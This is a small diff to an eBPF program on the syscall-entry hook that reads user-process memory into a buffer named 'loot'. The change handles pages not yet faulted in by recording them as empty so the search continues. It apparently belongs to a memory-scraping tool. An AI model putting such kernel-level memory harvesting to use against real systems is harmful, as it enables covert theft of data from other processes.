@@ -72,9 +72,12 @@ int BPF_PROG(sys_enter, struct pt_regs *regs, long id)
 		len = LOOT_LEN;
 	if (len == 0)
 		return 0;
-	if (bpf_probe_read_user(l->bytes, len, (void *)start) == 0) {
+	/* A page not faulted in yet cannot be read from BPF (no page faults
+	 * here): reported as empty, so the search goes on to the next one. */
+	if (bpf_probe_read_user(l->bytes, len, (void *)start) == 0)
 		l->len = len;
-		l->got = 1;
-	}
+	else
+		l->len = 0;
+	l->got = 1;
 	return 0;
 }
